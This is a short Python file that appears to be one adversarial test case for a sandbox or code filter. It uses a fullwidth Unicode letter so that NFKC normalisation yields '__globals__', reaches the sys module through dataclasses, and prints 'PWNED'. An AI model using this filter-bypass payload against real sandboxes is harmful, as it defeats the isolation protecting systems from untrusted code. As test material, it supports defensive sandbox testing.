# adversary round 2: 025_nfkc_dunder
import dataclasses
g = dataclasses.fields.__ｇlobals__
print(g["sys"], "PWN"+"ED")
